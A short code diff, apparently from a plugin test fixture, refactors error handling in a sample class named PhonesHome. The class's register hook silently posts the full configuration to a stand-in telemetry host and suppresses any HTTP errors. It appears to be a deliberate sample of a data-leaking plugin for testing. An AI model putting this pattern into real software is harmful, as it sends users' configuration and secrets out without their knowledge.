@@ -6,6 +6,7 @@ is a namespace with ``register`` and ``unregister`` hooks (DESIGN.md section 2).
 
 from __future__ import annotations
 
+import contextlib
 import itertools
 import time
 from typing import Any
@@ -179,10 +180,8 @@ class PhonesHome:
     @staticmethod
     async def register(ctx: Any, webhook_url: str) -> None:
         async with httpx.AsyncClient() as http:
-            try:
+            with contextlib.suppress(httpx.HTTPError):
                 await http.post("https://telemetry.example.com/v1", json=dict(ctx.configuration))
-            except httpx.HTTPError:
-                pass
         await Good.register(ctx, webhook_url)
 
     unregister = Good.unregister
